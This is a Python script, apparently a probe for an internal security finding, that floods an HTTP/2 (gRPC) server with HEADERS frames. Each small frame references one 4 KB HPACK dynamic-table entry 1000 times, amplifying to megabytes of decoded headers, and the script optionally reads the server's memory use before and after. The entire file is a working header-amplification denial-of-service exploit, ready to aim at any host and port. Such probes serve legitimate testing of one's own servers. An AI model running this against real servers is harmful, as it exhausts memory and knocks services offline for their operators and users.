#!/usr/bin/env python3
"""HPACK amplification probe (issue 8, finding 4): on one HTTP/2 connection, HEADERS frames of
about 1 KB each name one 4 KB dynamic-table entry 1000 times (4 MB decoded apiece).

usage: h2-header-flood.py HOST:PORT [FRAMES] [--pid PID]
Prints the server's answers per stream (RST_STREAM / HEADERS+END_STREAM) and, with --pid, the
server's resident memory before and after (VmRSS from /proc)."""
import socket, struct, sys, time

def rss(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")

def integer(value, prefix, high):
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([high | value])
    out = [high | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)

def string(text):
    raw = text.encode()
    return integer(len(raw), 7, 0) + raw

def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def main():
    target = sys.argv[1]
    frames = int(sys.argv[2]) if len(sys.argv) > 2 and not sys.argv[2].startswith("--") else 100
    pid = int(sys.argv[sys.argv.index("--pid") + 1]) if "--pid" in sys.argv else None
    host, port = target.rsplit(":", 1)
    request = (bytes([0x83, 0x86]) + integer(4, 4, 0) + string("/dtmgimp.Dtm/Submit")
               + integer(1, 4, 0) + string(target) + integer(31, 4, 0) + string("application/grpc")
               + b"\x00" + string("te") + string("trailers"))
    entry = b"\x40" + string("x-amp") + string("a" * 4000)
    references = bytes([0x80 | 62]) * 1000
    if pid:
        print(f"rss before: {rss(pid):.1f} MiB")
    sock = socket.create_connection((host, int(port)))
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(4, 1, 0, b""))
    sent = 0
    try:
        for n in range(frames):
            block = request + (entry if n == 0 else b"") + references
            data = frame(1, 4, 2 * n + 1, block)  # END_HEADERS, no END_STREAM
            sock.sendall(data)
            sent += len(data)
    except (BrokenPipeError, ConnectionResetError):
        print(f"server closed the connection after {sent} bytes")
    sock.settimeout(2)
    received = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            received += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    kinds = {}
    offset = 0
    while offset + 9 <= len(received):
        length = int.from_bytes(received[offset:offset + 3], "big")
        kind, flags = received[offset + 3], received[offset + 4]
        name = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}.get(kind, str(kind))
        if kind == 1 and flags & 1:
            name = "HEADERS+END_STREAM"
        kinds[name] = kinds.get(name, 0) + 1
        offset += 9 + length
    print(f"sent {frames} HEADERS frames, {sent} bytes on the wire; server answered {kinds}")
    if pid:
        time.sleep(1)
        print(f"rss after (connection open): {rss(pid):.1f} MiB")
    sock.close()
    if pid:
        time.sleep(1)
        print(f"rss after close: {rss(pid):.1f} MiB")

main()
